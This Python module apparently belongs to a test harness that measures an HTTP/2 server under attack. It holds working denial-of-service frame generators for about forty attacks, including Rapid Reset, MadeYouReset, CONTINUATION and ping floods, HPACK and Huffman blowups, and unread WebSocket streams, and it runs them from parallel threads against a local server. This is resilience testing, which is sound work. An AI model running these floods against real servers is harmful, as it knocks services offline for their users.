"""Attacks on a server, each an endless run of bytes, and the process that sends them.

`run()` is called in a process of its own, so that an attack and the client that is measured
beside it do not share an interpreter. It goes on for a time with one connection after
another, as each is closed by the server, and returns what became of them.

The two clients here stand apart from `raw.py`, whose frames they send: an attacker must cost less
than what it attacks, so it makes no object for a frame and looks at the few kinds that it needs.
"""

import itertools
import os
import select
import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import cache, partial
from threading import Lock

import raw
from h2.errors import ErrorCodes
from hpack import Encoder
from hpack.hpack import encode_integer

#: Bytes sent in one call.
BATCH = 32 * 1024

#: DATA frames of one stream sent in one call: a server may take a second for 100,000.
MOST_FRAMES = 1000

#: Seconds that the server has to answer the end of an attack.
ANSWER_TIMEOUT = 120.0

#: Seconds after which a handshake may fail because the client was late: it has 10.
LATE = 9.0


# -- the attacks ------------------------------------------------------------------------------


def _request(path: str = "/", method: str = "GET", *extra: raw.Field) -> bytes:
    """A header block that needs no state."""
    return Encoder().encode(raw.request_fields(path, method, *extra))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset(path: str) -> Iterator[bytes]:
    """CVE-2023-44487."""
    block = Encoder().encode(raw.request_fields(path))
    yield raw.headers(1, block)
    yield raw.rst_stream(1)
    # From now on in the dynamic table, as an attacker would have it.
    encoder = Encoder()
    encoder.encode(raw.request_fields(path))
    block = encoder.encode(raw.request_fields(path))
    for stream_id in itertools.count(3, 2):
        yield raw.headers(stream_id, block) + raw.rst_stream(stream_id)


def made_you_reset(fault: Callable[[int], bytes], *, end_stream: bool = True) -> Iterator[bytes]:
    """CVE-2025-8671: the server resets the stream, for `fault`."""
    block = _request("/sleep?s=0.2", "GET" if end_stream else "POST")
    for stream_id in _streams():
        yield raw.headers(stream_id, block, end_stream=end_stream) + fault(stream_id)


def malformed() -> Iterator[bytes]:
    block = Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", "x")])
    for stream_id in _streams():
        yield raw.headers(stream_id, block)


def content_length_differs() -> Iterator[bytes]:
    block = _request("/echo", "POST", ("content-length", "5"))
    for stream_id in _streams():
        yield raw.headers(stream_id, block, end_stream=False) + raw.data(stream_id, b"123")


def past_the_concurrency() -> Iterator[bytes]:
    block = _request("/sleep?s=3")
    for stream_id in _streams():
        yield raw.headers(stream_id, block)


def continuation_flood(fragment: bytes) -> Iterator[bytes]:
    """CVE-2024-27316."""
    yield raw.headers(1, _request(), end_headers=False)
    while True:
        yield raw.continuation(1, fragment, end_headers=False)


@cache
def _big_block(fields: tuple[raw.Field, ...]) -> bytes:
    """A block of many or long fields. (Making one takes up to seconds.)"""
    return Encoder().encode(fields)


def in_frames(stream_id: int, block: bytes) -> Iterator[bytes]:
    """A header block in as many frames as it takes. It ends its stream."""
    yield raw.headers(stream_id, block[:16384], end_headers=len(block) <= 16384)
    for start in range(16384, len(block), 16384):
        last = start + 16384 >= len(block)
        yield raw.continuation(stream_id, block[start : start + 16384], end_headers=last)


def big_headers(fields: list[raw.Field]) -> Iterator[bytes]:
    return requests([*raw.request_fields(), *fields])


def requests(fields: list[raw.Field]) -> Iterator[bytes]:
    block = _big_block(tuple(fields))
    for stream_id in _streams():
        yield from in_frames(stream_id, block)


def long_block() -> Iterator[bytes]:
    """A block of 540 KB in one Huffman string: all of it was decoded before its size was seen."""
    string = b"\x1c" * 540_000
    block = _request() + b"\0\x01x\xff" + bytes(encode_integer(len(string), 7))[1:] + string
    for stream_id in _streams():
        yield from in_frames(stream_id, block)


def huffman_within_the_limit() -> Iterator[bytes]:
    """Blocks of 60 KB that have to be decoded: each is a 431."""
    string = b"\x1c" * 60_000
    block = _request() + b"\0\x01x\xff" + bytes(encode_integer(len(string), 7))[1:] + string
    for stream_id in _streams():
        yield from in_frames(stream_id, block)


def http2_bomb() -> Iterator[bytes]:
    """CVE-2026-49975: 2 KB of references to one field of the table."""
    encoder = Encoder()
    encoder.encode([("a", "b" * 30)])
    yield raw.headers(1, _request() + Encoder().encode([("a", "b" * 30)]))
    for stream_id in itertools.count(3, 2):
        yield raw.headers(stream_id, _request() + b"\xbe" * 2000)


def forever(frame: bytes) -> Iterator[bytes]:
    return itertools.repeat(frame)


def on_a_stream(frame: bytes, path: str = "/echo") -> Iterator[bytes]:
    yield raw.headers(1, _request(path, "POST"), end_stream=False)
    yield from forever(frame)


def on_a_closed_stream(frame: bytes) -> Iterator[bytes]:
    yield raw.headers(1, _request("/echo", "POST"), end_stream=False)
    yield raw.rst_stream(1)
    yield from forever(frame)


def headers_on_a_closed_stream(*, reset_by_server: bool) -> Iterator[bytes]:
    fault = raw.window_update(1, 0) if reset_by_server else raw.rst_stream(1)
    yield raw.headers(1, _request("/echo", "POST"), end_stream=False) + fault
    yield from forever(raw.headers(1, _request()))


def new_settings() -> Iterator[bytes]:
    """65,536 settings that nobody knows, again and again."""
    for start in itertools.cycle(range(0, 65536, 2000)):
        numbers = (n & 0xFFFF for n in range(start, start + 2000))
        payload = b"".join(struct.pack(">HL", n, 1) for n in numbers if n > 8)
        yield raw.pack(4, 0, 0, payload)


def window_of_one_byte() -> Iterator[bytes]:
    """CVE-2019-9511: the response, byte by byte."""
    yield raw.settings({4: 0})
    yield raw.headers(1, _request("/bytes?n=10000000"))
    yield from forever(raw.window_update(1, 1))


_UNKNOWN_FRAME = raw.pack(0xEE, 0, 0, b"")
_PRIORITY_UPDATE = raw.pack(0x10, 0, 0, b"\0\0\0\1u=1")

ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": partial(rapid_reset, "/"),
    "rapid-reset-of-slow-views": partial(rapid_reset, "/sleep?s=0.2"),
    "made-you-reset-by-zero-window-update": partial(
        made_you_reset, partial(raw.window_update, increment=0)
    ),
    "made-you-reset-by-window-overflow": partial(
        made_you_reset, partial(raw.window_update, increment=2**31 - 1)
    ),
    "made-you-reset-by-data-past-the-end": partial(made_you_reset, raw.data),
    "made-you-reset-by-priority": partial(
        made_you_reset, lambda stream_id: raw.priority(stream_id, stream_id)
    ),
    "malformed-requests": malformed,
    "content-length-differs": content_length_differs,
    "past-the-concurrency": past_the_concurrency,
    "continuation-flood": partial(continuation_flood, b""),
    "continuation-flood-of-fields": partial(continuation_flood, b"\x82" * 100),
    "many-fields": partial(big_headers, [(f"x-{i}", "1") for i in range(900)]),
    "very-many-fields": partial(big_headers, [(f"x{i}", "") for i in range(9000)]),
    "long-field": partial(big_headers, [("x", "a" * 90_000)]),
    "path-of-percent-ff": partial(requests, raw.request_fields("/" + "%ff" * 15_000)),
    "cookie-in-thousands": partial(big_headers, [("cookie", f"{i}=1") for i in range(5000)]),
    "http2-bomb": http2_bomb,
    "huffman": long_block,
    "huffman-within-the-limit": huffman_within_the_limit,
    "ping": partial(forever, raw.ping()),
    "ping-ack": partial(forever, raw.ping(ack=True)),
    "settings": partial(forever, raw.settings({4: 65535})),
    "empty-settings": partial(forever, raw.settings()),
    "settings-ack": partial(forever, raw.settings_ack()),
    "unknown-settings": new_settings,
    "priority": partial(forever, raw.priority(1)),
    "priority-of-new-streams": lambda: (raw.priority(i) for i in _streams()),
    "window-update": partial(forever, raw.window_update(0, 1)),
    "window-update-of-a-stream": partial(on_a_stream, raw.window_update(1, 1)),
    "window-of-one-byte": window_of_one_byte,
    "empty-data": partial(on_a_stream, raw.data(1, end=False)),
    "data-of-padding": partial(on_a_stream, raw.data(1, end=False, pad=10)),
    "data-on-a-closed-stream": partial(on_a_closed_stream, raw.data(1, b"x", end=False)),
    "resets-of-a-closed-stream": partial(on_a_closed_stream, raw.rst_stream(1)),
    "headers-on-a-stream-reset-by-client": partial(
        headers_on_a_closed_stream, reset_by_server=False
    ),
    "headers-on-a-stream-reset-by-server": partial(
        headers_on_a_closed_stream, reset_by_server=True
    ),
    "unknown-frames": partial(forever, _UNKNOWN_FRAME),
    "priority-update": partial(forever, _PRIORITY_UPDATE),
}

#: Those that make the server answer each frame: the attacker may refuse to read the answers.
ANSWERED = ("rapid-reset", "ping", "settings", "malformed-requests", "past-the-concurrency")

#: Those that cost most when many attack at once.
MANY_AT_ONCE = (
    "rapid-reset",
    "malformed-requests",
    "data-on-a-closed-stream",
    "ping",
    "huffman",
)


@dataclass
class Outcome:
    """What became of the connections of an attack."""

    connections: int = 0
    goaways: Counter[str] = field(default_factory=Counter)  # by error code
    resets: Counter[str] = field(default_factory=Counter)  # ended without a GOAWAY
    sent: int = 0  # bytes


# -- connections ------------------------------------------------------------------------------


def _connect(port: int, cafile: str) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    sock = socket.create_connection(("127.0.0.1", port), ANSWER_TIMEOUT)
    return context.wrap_socket(sock, server_hostname="localhost")


# -- WebSockets whose bytes nobody reads -------------------------------------------------------


def websocket_frame(payload: bytes, *, fin: bool = True) -> bytes:
    """A binary frame of a client's, masked with zeros."""
    return struct.pack("!BBQ4x", 0x80 * fin | 2, 0x80 | 127, len(payload)) + payload


@dataclass
class Unread:
    """Extended CONNECTs of one connection, and what is sent on each as its window allows."""

    path: str
    payload: bytes
    streams: int = 20
    piece: int = 16384  # bytes of a DATA frame
    ends_in_resets: bool = False


_MESSAGE = websocket_frame(bytes(2**20 - 14))
UNREAD = {
    "push-only": Unread("/ws/push", _MESSAGE * 20, ends_in_resets=True),
    "half-a-message": Unread("/ws/push", websocket_frame(bytes(2**20), fin=False)),
    "half-a-message-in-2-bytes": Unread("/ws/push", _MESSAGE[: 2**17], piece=2),
    "not-accepted": Unread("/ws/slow-to-accept?s=3", _MESSAGE, ends_in_resets=True),
    "not-accepted-in-2-bytes": Unread("/ws/slow-to-accept?s=3", _MESSAGE[: 2**16], piece=2),
    "slow-page": Unread("/sleep?s=3", _MESSAGE),
}


def leave_unread(name: str, port: int, cafile: str, seconds: float) -> Outcome:
    """Send for so many seconds, and until a reset if one is to come; the codes of the resets."""
    attack, outcome = UNREAD[name], Outcome(connections=1)
    client = _WebSockets(port, cafile, attack)
    until = time.monotonic() + seconds
    latest = until + (ANSWER_TIMEOUT if attack.ends_in_resets else 0)
    while (now := time.monotonic()) < latest and not client.closed:
        if now >= until and client.resets:
            break
        client.go_on()
    outcome.sent, outcome.resets = client.sent, client.resets
    return outcome


class _WebSockets:
    """Sends `attack` on one connection, by turns, within its windows."""

    def __init__(self, port: int, cafile: str, attack: Unread) -> None:
        self._sock = _connect(port, cafile)
        self._attack = attack
        streams = range(1, 2 * attack.streams, 2)
        self._windows = dict.fromkeys(streams, 2**20) | {0: 16 * 2**20}
        self._offsets = dict.fromkeys(streams, 0)
        self._received = bytearray()
        self.resets: Counter[str] = Counter()
        self.sent = 0
        self.closed = False
        block = Encoder().encode(
            [
                (":method", "CONNECT"),
                (":protocol", "websocket"),
                *raw.request_fields(attack.path)[1:],
                ("sec-websocket-version", "13"),
            ]
        )
        opened = b"".join(raw.headers(stream, block, end_stream=False) for stream in streams)
        self._sock.sendall(raw.PREFACE + raw.settings() + opened)

    def go_on(self) -> None:
        """Send some, and take in what the server says."""
        pending = b"".join(self._data(stream) for stream in list(self._offsets))
        try:
            self._sock.settimeout(ANSWER_TIMEOUT)
            self._sock.sendall(pending)
            self._sock.settimeout(0.0001 if pending else 0.05)
            for _ in range(100):  # some: a view that pushes never lets it be silent
                data = self._sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self._parse(data)
        except TimeoutError:
            pass
        except OSError:
            self.closed = True

    def _data(self, stream: int) -> bytes:
        """DATA of one stream's turn, as many bytes as its windows have."""
        windows, start = self._windows, self._offsets[stream]
        most = min(BATCH, self._attack.piece * MOST_FRAMES)
        size = max(0, min(most, windows[stream], windows[0]))
        payload = self._attack.payload[start : start + size]
        self._offsets[stream] += len(payload)
        windows[stream] -= len(payload)
        windows[0] -= len(payload)
        self.sent += len(payload)
        piece = self._attack.piece
        return b"".join(
            raw.data(stream, payload[i : i + piece], end=False)
            for i in range(0, len(payload), piece)
        )

    def _parse(self, data: bytes) -> None:
        received = self._received
        received += data
        while len(received) >= 9 and len(received) >= 9 + (length := int.from_bytes(received[:3])):
            kind, stream = received[3], int.from_bytes(received[5:9])
            if kind == 8 and stream in self._windows:
                self._windows[stream] += int.from_bytes(received[9:13])
            elif kind == 3 and self._offsets.pop(stream, None) is not None:
                self.resets[ErrorCodes(int.from_bytes(received[9:13])).name] += 1
            del received[: 9 + length]


# -- the attacker -----------------------------------------------------------------------------


class _Replay:
    """What an attack sends, in batches. They are made once, for all connections of all threads."""

    def __init__(self, chunks: Iterator[bytes]) -> None:
        self._chunks = chunks
        self._made: list[bytes] = []
        self._making = Lock()

    def __iter__(self) -> Iterator[bytes]:
        for i in itertools.count():
            with self._making:
                if i == len(self._made):
                    self._made.append(self._next())
            if not self._made[i]:
                return
            yield self._made[i]

    def _next(self) -> bytes:
        """More than `BATCH` bytes, or what is left."""
        chunks, size = [], 0
        while size < BATCH and (chunk := next(self._chunks, b"")):
            chunks.append(chunk)
            size += len(chunk)
        return b"".join(chunks)


def _filled(pending: bytes, batches: Iterator[bytes]) -> bytes:
    """`pending`, and more if it is less than a batch."""
    return pending if len(pending) >= BATCH else pending + next(batches, b"")


class _Attacker:
    def __init__(self, port: int, cafile: str, *, reads: bool) -> None:
        self._sock = _connect(port, cafile)
        self._sock.setblocking(False)
        self._reads = reads
        self._received = bytearray()
        self.goaway: str | None = None
        self.closed = ""
        self.sent = 0

    def attack(self, pending: bytes, batches: Iterator[bytes]) -> None:
        """Send until the server closes."""
        while not self.closed:
            pending = pending[self._send(pending) :]
            pending = _filled(pending, batches)
        self._sock.close()

    def _send(self, pending: bytes) -> int:
        try:
            if self._reads:
                self._receive()
            sent = self._sock.send(pending)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            readable = [self._sock] if self._reads else []
            if not any(select.select(readable, [self._sock], [], ANSWER_TIMEOUT)):
                self.closed = "never"
            return 0
        except OSError as exc:
            self._at_the_end(exc)
            return 0
        self.sent += sent
        return sent

    def _at_the_end(self, exc: OSError) -> None:
        """The server no longer reads: see what it said last."""
        self.closed = type(exc).__name__
        self._sock.settimeout(ANSWER_TIMEOUT)
        try:
            while data := self._sock.recv(65536):
                self._parse(data)
        except OSError as at_last:
            self.closed = type(at_last).__name__
        else:
            self.closed = "closed"

    def _receive(self) -> None:
        try:
            while data := self._sock.recv(65536):
                self._parse(data)
            self.closed = "closed"
        except (ssl.SSLWantReadError, BlockingIOError):
            pass

    def _parse(self, data: bytes) -> None:
        received = self._received
        received += data
        while len(received) >= 9:
            length = int.from_bytes(received[:3])
            if len(received) < 9 + length:
                return
            if received[3] == 7:
                self.goaway = ErrorCodes(int.from_bytes(received[13:17])).name
            del received[: 9 + length]


def run(replay: _Replay, port: int, cafile: str, seconds: float, reads: bool) -> Outcome:
    """Attack for so many seconds, with a new connection whenever one is closed."""
    outcome = Outcome()
    until = time.monotonic() + seconds
    while not outcome.connections or time.monotonic() < until:
        batches = iter(replay)
        # Before the server waits for the preface: on a busy machine it takes 20 threads seconds.
        first = _filled(raw.PREFACE + raw.settings(), batches)
        started = time.monotonic()
        try:
            attacker = _Attacker(port, cafile, reads=reads)
        except OSError:
            if not LATE < time.monotonic() - started < ANSWER_TIMEOUT:
                raise
            continue  # 20 threads on a busy machine: this one came too late
        attacker.attack(first, batches)
        outcome.connections += 1
        outcome.sent += attacker.sent
        if attacker.goaway:
            outcome.goaways[attacker.goaway] += 1
        else:
            outcome.resets[attacker.closed] += 1
    return outcome


def run_at_once(
    number: int, name: str, port: int, cafile: str, *, seconds: float, reads: bool
) -> Outcome:
    """`run()` for so many attackers at the same time; what became of all their connections."""
    os.nice(10)  # the machine's second core is for the client that is measured
    replay = _Replay(ATTACKS[name]())
    with ThreadPoolExecutor(number) as pool:
        runs = [pool.submit(run, replay, port, cafile, seconds, reads) for _ in range(number)]
    total = Outcome()
    for outcome in (run.result() for run in runs):
        total.connections += outcome.connections
        total.goaways += outcome.goaways
        total.resets += outcome.resets
        total.sent += outcome.sent
    return total
